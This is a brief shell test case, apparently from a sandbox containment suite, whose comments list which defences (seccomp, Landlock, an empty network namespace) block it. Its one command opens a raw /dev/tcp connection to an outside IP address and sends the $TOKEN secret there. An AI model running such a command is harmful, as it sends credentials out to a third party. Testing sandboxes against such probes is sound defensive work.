# title: connects to a server on the internet
# harm: reaches
# B: seccomp refuses sockets; Landlock refuses TCP
# C: an empty network namespace
exec 3<>/dev/tcp/93.184.216.34/443; echo "$TOKEN" >&3; sleep 0.2
